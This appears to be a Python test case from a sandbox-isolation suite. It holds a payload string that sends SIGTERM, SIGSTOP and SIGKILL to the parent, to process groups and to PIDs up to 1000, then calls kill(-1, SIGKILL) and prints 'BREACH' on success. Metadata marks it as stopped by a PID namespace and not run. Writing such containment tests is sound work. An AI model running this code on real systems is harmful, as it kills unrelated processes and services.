"""Send signals to every process, every group, the server and the parent.

Must not: end anything but itself.
"""

from attack_kit import every

ANSWERS = every("return None")
LAST = [
    "import os, signal\n"
    "for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n"
    "    for pid in (0, os.getppid(), -os.getppid() or -1, *range(2, 1000)):\n"
    "        if pid not in (os.getpid(), 0, 1):\n"
    "            try: os.kill(pid, number); print('BRE' + 'ACH:', pid)\n"
    "            except OSError: pass\n"
    "try: os.kill(-1, signal.SIGKILL)\n"
    "except OSError as error: raise LookupError('nobody to kill') from error\n"
    "raise LookupError('nobody else was there')",
]
REASON = "nobody"
STOPPED_BY = "a PID namespace and a session of its own"
PROCESS_STOPS = False
PROCESS_WHY = "signals reach every process of the account: not run"
